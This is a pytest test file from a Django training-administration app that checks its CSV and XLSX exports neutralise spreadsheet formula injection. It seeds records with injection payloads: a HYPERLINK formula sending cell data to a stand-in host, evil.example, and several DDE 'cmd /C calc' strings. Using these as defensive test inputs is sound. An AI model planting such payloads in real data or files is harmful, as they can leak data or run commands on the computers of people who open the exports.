"""Every CSV and XLSX the college writes is safe to open in a spreadsheet."""

import csv
import io

import pytest
from django.contrib.auth.models import Group
from django.core.management import call_command
from openpyxl import load_workbook

from cms.groups import TRAINING_ADMINISTRATORS
from courses.models import Enrolment, HoursEntry
from infrastructure.exports import safe_cell, table_to_csv, tables_to_xlsx
from tests.factories.roster import DelegationFactory, DeputyFactory, RequirementFactory

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_shaped_text_is_neutralised(value):
    assert safe_cell(value).startswith("'")
    assert safe_cell(value)[1:] == value


@pytest.mark.parametrize("value", [42, 3.5, None, True, "张明", "13800000001"])
def test_ordinary_values_pass_unchanged(value):
    assert safe_cell(value) == value


def test_characters_xlsx_cannot_hold_are_removed():
    assert safe_cell("张\x00明\x1b") == "张明"


def _csv_cells(content: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig")))
    return [cell for row in rows for cell in row]


def _xlsx_cells(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))
    return [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
    ]


def _assert_inert_xlsx(content: bytes) -> None:
    cells = _xlsx_cells(content)
    assert cells
    for cell in cells:
        assert cell.data_type != "f", cell.value
        if isinstance(cell.value, str):
            assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_the_table_writers_write_no_formula():
    header = ["姓名", *FORMULAS[:1]]
    rows = [[value, 1] for value in FORMULAS]
    for cell in _csv_cells(table_to_csv(header, rows)):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    content = tables_to_xlsx([("sheet", header, rows)])
    _assert_inert_xlsx(content)
    numbers = [c.value for c in _xlsx_cells(content) if isinstance(c.value, int)]
    assert numbers == [1] * len(FORMULAS)


@pytest.mark.django_db
def test_coverage_report_files_write_no_formula(quizless_course, tmp_path):
    RequirementFactory(courses=[quizless_course])
    delegation = DelegationFactory(name="=cmd|' /C calc'!A0")
    for number, value in enumerate(FORMULAS):
        DeputyFactory(name=value, delegation=delegation, deputy_no=f"@{number}")
    call_command(
        "coverage_report", "--format", "xlsx", "--output", str(tmp_path / "c.xlsx")
    )
    _assert_inert_xlsx((tmp_path / "c.xlsx").read_bytes())
    call_command(
        "coverage_report", "--format", "csv", "--output", str(tmp_path / "c.csv")
    )
    cells = _csv_cells((tmp_path / "c.csv").read_bytes())
    assert "'=cmd|' /C calc'!A0" in cells
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@")), cell


ADMIN_EXPORTS = ["deputies", "enrolments", "hours"]


@pytest.mark.django_db
@pytest.mark.parametrize("listing", ADMIN_EXPORTS)
@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_admin_exports_write_no_formula(
    client, django_user_model, quizless_course, listing, export_format
):
    trainer = django_user_model.objects.create_user("trainer", password="pw-1")
    trainer.groups.add(Group.objects.get(name=TRAINING_ADMINISTRATORS))
    for value in FORMULAS:
        deputy = DeputyFactory(name=value, email="")
        Enrolment.objects.create(deputy=deputy, course=quizless_course)
        HoursEntry.objects.create(
            deputy=deputy,
            year=2024,
            category="initial",
            hours=2,
            source=HoursEntry.Source.OTHER,
            description=value,
            earned_on="2024-03-01",
        )
    client.force_login(trainer)
    response = client.get(f"/admin/{listing}/?export={export_format}")
    assert response.status_code == 200
    content = (
        b"".join(response.streaming_content)
        if response.streaming
        else (response.content)
    )
    if export_format == "xlsx":
        _assert_inert_xlsx(content)
        assert any(
            isinstance(c.value, str) and c.value.startswith("'=HYPERLINK")
            for c in _xlsx_cells(content)
        )
    else:
        cells = _csv_cells(content)
        assert any(cell.startswith("'=HYPERLINK") for cell in cells)
        for cell in cells:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
